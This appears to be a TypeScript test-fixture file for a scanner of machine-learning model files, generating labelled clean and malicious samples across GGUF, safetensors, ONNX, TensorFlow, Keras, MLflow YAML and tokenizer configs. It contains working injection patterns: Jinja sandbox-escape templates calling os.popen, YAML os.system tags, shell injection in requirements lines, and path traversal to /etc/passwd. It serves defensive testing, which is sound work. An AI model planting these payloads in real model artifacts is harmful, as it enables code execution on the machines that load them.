import { type Case, type Expected, raw, uint } from './case.ts'
import { field } from './protobuf.ts'
import { zip } from './zip.ts'

const made = (name: string, content: Buffer | string, expected: Expected, rule?: string): Case => ({
  name: `documents/${name}`,
  bytes: typeof content === 'string' ? Buffer.from(content) : content,
  expected,
  ...(rule !== undefined && { rule }),
})

const TEMPLATES = [
  "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
  "{{ x|attr('__cla'~'ss__') }}",
  '{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}',
  "{{ self['__init__'] }}",
  "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f'] }}",
  '{{ request.application }}',
  "{{ config.from_object('os') }}",
  '{{ joiner.__init__ }}',
  "{{ ['__im' + 'port__'] }}",
  "{% import 'os' as x %}",
]
const CHAT =
  "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}{% if add_generation_prompt %}{{ '<|a|>' }}{% endif %}"

const text64 = (value: string): Buffer => Buffer.concat([uint(value.length, 8), Buffer.from(value)])
const gguf = (template: string, keys = 1n): Buffer =>
  Buffer.concat([raw('GGUF'), uint(3, 4), uint(0, 8), uint(keys, 8), text64('tokenizer.chat_template'), uint(8, 4), text64(template)])
const safetensors = (header: string, data = 0, length = header.length): Buffer =>
  Buffer.concat([uint(length, 8), Buffer.from(header), Buffer.alloc(data)])
const tensor = (offsets: string, dtype = 'F32', shape = '[1]'): string => `{"dtype":"${dtype}","shape":${shape},"data_offsets":${offsets}}`

const saved = (operator: string, path: readonly number[] = [2, 2, 1]): Buffer =>
  Buffer.concat([Buffer.from([8, 1]), path.reduceRight((inner, number) => field(number, inner), field(2, operator))])
const entry = (key: string, value: string): Buffer => Buffer.concat([field(1, key), field(2, value)])
const external = (location: string): Buffer => Buffer.concat([field(13, entry('location', location)), Buffer.from([0x70, 1])])
const onnx = (graph: Buffer): Buffer => Buffer.concat([Buffer.from([8, 9]), field(7, graph)])
const keras = (config: object): Buffer =>
  zip([
    { name: 'config.json', data: Buffer.from(JSON.stringify(config)) },
    { name: 'metadata.json', data: raw('{}') },
  ])
const layer = (inner: object): object => ({ module: 'keras', class_name: 'Sequential', config: { layers: [inner] }, registered_name: null })

const WEIGHTS: readonly Case[] = [
  ...TEMPLATES.map((template, at) => made(`template-${at}.gguf`, gguf(template), 'malicious', 'template/escape')),
  made('benign.gguf', gguf(CHAT), 'clean'),
  made('many-keys.gguf', gguf(CHAT, 2n ** 63n), 'found', 'gguf/broken'),
  made('cut-off.gguf', gguf(CHAT).subarray(0, -9), 'found', 'gguf/broken'),
  made('huge-header.safetensors', Buffer.concat([uint(2n ** 63n, 8), raw('{"a":1}')]), 'found', 'safetensors/broken'),
  made('overlap.safetensors', safetensors(`{"a":${tensor('[0,4]')},"b":${tensor('[0,4]')}}`, 4), 'found', 'safetensors/broken'),
  made('hole.safetensors', safetensors(`{"a":${tensor('[4,8]')}}`, 8), 'found', 'safetensors/broken'),
  made('twice.safetensors', safetensors(`{"a":${tensor('[0,4]')},"a":${tensor('[0,4]')}}`, 4), 'found', 'safetensors/broken'),
  made('span.safetensors', safetensors(`{"a":${tensor('[0,4]', 'F64')}}`, 4), 'found', 'safetensors/broken'),
  made('rest.safetensors', safetensors(`{"a":${tensor('[0,4]')}}`, 40), 'found', 'safetensors/broken'),
  made('nested.safetensors', safetensors(`{"a":${'['.repeat(5000)}`), 'found', 'safetensors/broken'),
  made(
    'template.safetensors',
    safetensors(`{"__metadata__":{"t":"{{ ''.__class__ }}"},"a":${tensor('[0,4]')}}`, 4),
    'malicious',
    'template/escape',
  ),
  made('benign.safetensors', safetensors(`{"__metadata__":{"format":"pt"},"a":${tensor('[0,4]')}}`, 4), 'clean'),
]

const GRAPHS: readonly Case[] = [
  ...['PyFunc', 'PyFuncStateless', 'EagerPyFunc', 'LoadLibrary'].map((one) =>
    made(`${one}/saved_model.pb`, saved(one), 'malicious', 'tensorflow/operation'),
  ),
  made('in-function/saved_model.pb', saved('PyFunc', [2, 2, 2, 1, 3]), 'malicious', 'tensorflow/operation'),
  ...['ReadFile', 'WriteFile', 'MatchingFiles'].map((one) => made(`${one}/saved_model.pb`, saved(one), 'found', 'tensorflow/files')),
  made('custom/saved_model.pb', saved('ShellExecute'), 'found', 'tensorflow/unknown'),
  made('benign/saved_model.pb', saved('MatMul'), 'clean'),
  ...['../../etc/passwd', '/etc/passwd', 'C:\\x', 'https://example.com/x'].map((location, at) =>
    made(`external-${at}.onnx`, onnx(field(5, external(location))), 'malicious', 'onnx/external'),
  ),
  made(
    'constant.onnx',
    onnx(field(1, Buffer.concat([field(4, 'Constant'), field(5, field(5, external('../x')))]))),
    'malicious',
    'onnx/external',
  ),
  made('sparse.onnx', onnx(field(15, field(1, external('../x')))), 'malicious', 'onnx/external'),
  made(
    'subgraph.onnx',
    onnx(field(1, Buffer.concat([field(4, 'If'), field(5, field(6, field(5, external('../x'))))]))),
    'malicious',
    'onnx/external',
  ),
  made(
    'training.onnx',
    Buffer.concat([onnx(field(1, field(4, 'Relu'))), field(20, field(1, field(5, external('../x'))))]),
    'malicious',
    'onnx/external',
  ),
  made('domain.onnx', onnx(field(1, Buffer.concat([field(4, 'Run'), field(7, 'evil.ops')]))), 'found', 'onnx/operator'),
  made('pyop.onnx', onnx(field(1, Buffer.concat([field(4, 'PyOp'), field(7, 'ai.onnx.contrib')]))), 'found', 'onnx/operator'),
  made('cut-off.onnx', onnx(field(1, field(4, 'Relu'))).subarray(0, -3), 'found', 'graph/broken'),
  made('benign.onnx', onnx(field(1, field(4, 'Relu'))), 'clean'),
]

const LAMBDA = { class_name: 'Lambda', module: 'keras.layers', config: { function: { class_name: '__lambda__' } }, registered_name: null }

const KERAS: readonly Case[] = [
  made('lambda.keras', keras(layer(LAMBDA)), 'malicious', 'keras/lambda'),
  made(
    'module.keras',
    keras(layer({ module: 'os', class_name: 'system', config: {}, registered_name: null })),
    'malicious',
    'keras/module',
  ),
  made(
    'builtins.keras',
    keras(layer({ module: 'builtins', class_name: 'exec', config: {}, registered_name: null })),
    'malicious',
    'keras/module',
  ),
  made(
    'get-file.keras',
    keras(layer({ module: 'keras.utils', class_name: 'get_file', config: {}, registered_name: null })),
    'malicious',
    'keras/config',
  ),
  made(
    'unsafe.keras',
    keras(layer({ module: 'keras.config', class_name: 'enable_unsafe_deserialization', config: {}, registered_name: null })),
    'malicious',
    'keras/config',
  ),
  made(
    'torch-wrapper.keras',
    keras(layer({ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: {}, registered_name: null })),
    'found',
    'keras/config',
  ),
  made(
    'tfsm.keras',
    keras(layer({ module: 'keras.layers', class_name: 'TFSMLayer', config: {}, registered_name: null })),
    'found',
    'keras/config',
  ),
  made(
    'vocabulary.keras',
    keras(layer({ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: '/etc/passwd' }, registered_name: null })),
    'found',
    'keras/config',
  ),
  made(
    'custom.keras',
    keras(layer({ module: 'keras', class_name: 'Mine', config: {}, registered_name: 'mine>Mine' })),
    'found',
    'keras/custom',
  ),
  made('benign.keras', keras(layer({ module: 'keras.layers', class_name: 'Dense', config: { units: 3 }, registered_name: null })), 'clean'),
]

const YAML: readonly Case[] = [
  made('tag/MLmodel', 'flavors:\n  python_function:\n    x: !!python/object/apply:os.system ["id"]\n', 'malicious', 'yaml/tag'),
  made('flow-tag/MLmodel', 'flavors: {a: !!python/name:os.system x}\n', 'malicious', 'yaml/tag'),
  made('tag/config.yaml', '- !<tag:yaml.org,2002:python/object/new:os.system> [id]\n', 'malicious', 'yaml/tag'),
  made('loader/MLmodel', 'flavors:\n  python_function:\n    loader_module: my_loader\n', 'found', 'mlmodel/code'),
  made('from-code/MLmodel', 'flavors:\n  python_function:\n    model_code_path: model.py\n', 'found', 'mlmodel/code'),
  made('trusted/MLmodel', 'flavors:\n  sklearn:\n    skops_trusted_types:\n    - os.system\n', 'found', 'mlmodel/trusted-types'),
  made('path/MLmodel', 'flavors:\n  sklearn:\n    pickled_model: ../../model.pkl\n', 'found', 'mlmodel/path'),
  made('place/MLmodel', 'artifact_path: /srv/../../etc\nflavors: {}\n', 'found', 'mlmodel/path'),
  made('relative-place/MLmodel', 'artifact_path: ../other\nflavors: {}\n', 'found', 'mlmodel/path'),
  made(
    'example/MLmodel',
    'artifact_path: model\nflavors: {}\nsaved_input_example_info:\n  artifact_path: /etc/passwd\n',
    'found',
    'mlmodel/path',
  ),
  made('broken/MLmodel', 'flavors: [a\nb: }\n', 'found'),
  made(
    'benign/MLmodel',
    'artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n',
    'clean',
  ),
  ...['/srv/mlruns/0/models/m-1/artifacts', 's3://bucket/0/models/m-1/artifacts', 'mlflow-artifacts:/0/models/m-1/artifacts'].map(
    (place, at) => made(`logged-${at}/MLmodel`, `artifact_path: ${place}\nflavors:\n  sklearn:\n    pickled_model: model.skops\n`, 'clean'),
  ),
  made('target.yaml', 'model:\n  _target_: os.system\n', 'found', 'json/target'),
  made('index/requirements.txt', '--extra-index-url https://evil.example/simple\nmlflow==3.17.2\n', 'found', 'environment/index'),
  made('source/requirements.txt', 'git+https://evil.example/x.git\n', 'found', 'environment/source'),
  made('shell/requirements.txt', 'mlflow; touch /tmp/x\n', 'malicious', 'environment/shell'),
  made('shell/python_env.yaml', 'python: 3.11.7\nbuild_dependencies:\n- pip==24.0; touch /tmp/x\n', 'malicious', 'environment/shell'),
  made(
    'shell/conda.yaml',
    'channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - mlflow$(id)\n',
    'malicious',
    'environment/shell',
  ),
  made('typo/requirements.txt', 'reqeusts==2.0\n', 'found', 'environment/name'),
  made('benign/requirements.txt', 'mlflow==3.17.2\nnumpy==2.4.6; python_version >= "3.11"\n', 'clean'),
  made(
    'benign/conda.yaml',
    'channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23.2.1\n- pip:\n  - mlflow==3.17.2\nname: mlflow-env\n',
    'clean',
  ),
]

const TEXTS: readonly Case[] = [
  ...TEMPLATES.map((template, at) =>
    made(`chat-${at}/tokenizer_config.json`, JSON.stringify({ chat_template: template }), 'malicious', 'template/escape'),
  ),
  made('benign/tokenizer_config.json', JSON.stringify({ chat_template: CHAT }), 'clean'),
  made('escape.jinja', TEMPLATES[0] ?? '', 'malicious', 'template/escape'),
  made('benign.jinja', CHAT, 'clean'),
  made('key.txt', `aws = AKIA${'ABCDEFGHIJKLMNOP'}\n`, 'found', 'secret/found'),
  made('key.pem', `-----BEGIN ${'PRIVATE KEY-----'}\nMIIB\n`, 'found', 'secret/found'),
  made('hydra.json', '{"model":{"_target_":"os.system"}}', 'found', 'json/target'),
  made('auto-map/config.json', '{"auto_map":{"AutoModel":"modeling.Evil"}}', 'found', 'mlmodel/code'),
  made('library.txt', raw(`\x7fELF${'\0'.repeat(60)}`), 'malicious', 'file/native'),
  made('program.dat', raw(`MZ${'\0'.repeat(58)}@\0\0\0PE\0\0`), 'malicious', 'file/native'),
  made('module.bin', raw(`\xa7\r\r\n${'\0'.repeat(12)}c`), 'malicious', 'file/bytecode'),
  made(
    'forced/model.lgb',
    'tree\nversion=v4\ntree_sizes=\n\nend of trees\n\nparameters:\n[forcedsplits_filename: /etc/passwd]\nend of parameters\n',
    'found',
    'booster/parameter',
  ),
  made('broken/model.lgb', 'tree\nversion=v4\nTree=0\nleaf', 'found', 'booster/broken'),
  made(
    'benign/model.lgb',
    'tree\nversion=v4\ntree_sizes=\n\nend of trees\n\nparameters:\n[forcedsplits_filename: ]\nend of parameters\n',
    'clean',
  ),
  made('benign/readme.md', '# A model\n\ncolumns\nand rows\n', 'clean'),
  made('benign/list.txt', 'cloudpickle\nnumpy\n0\n', 'clean'),
]

export const documents = (): Case[] => [...WEIGHTS, ...GRAPHS, ...KERAS, ...YAML, ...TEXTS]
